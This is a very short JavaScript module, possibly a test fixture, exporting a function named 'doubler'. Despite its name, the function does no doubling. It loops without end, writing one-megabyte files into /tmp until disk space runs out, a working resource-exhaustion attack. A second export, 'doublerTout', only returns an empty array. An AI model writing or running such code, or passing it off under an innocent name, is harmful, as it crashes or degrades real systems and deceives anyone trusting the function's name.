import fs from "node:fs";
export const doubler = () => { for (let n = 0; ; n++) fs.writeFileSync(`/tmp/${n}`, "x".repeat(1 << 20)); };
export const doublerTout = () => [];
